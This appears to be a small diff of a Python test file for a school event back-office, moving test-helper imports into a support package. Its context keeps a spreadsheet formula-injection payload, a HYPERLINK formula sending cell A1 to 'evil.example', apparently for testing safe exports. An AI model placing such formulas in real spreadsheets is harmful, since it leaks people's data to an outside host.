@@ -14,9 +14,9 @@ import sqlalchemy as sa
 from openpyxl import load_workbook
 
 from school.models import AuditEntry, CheckIn, RegistrationMeal, Session
-from tests.backoffice import Organiser, fresh, make_admin
-from tests.factories import make_choice, make_registration
-from tests.pdf_tools import pdf_text
+from tests.support.backoffice import Organiser, fresh, make_admin
+from tests.support.factories import make_choice, make_registration
+from tests.support.pdf_tools import pdf_text
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
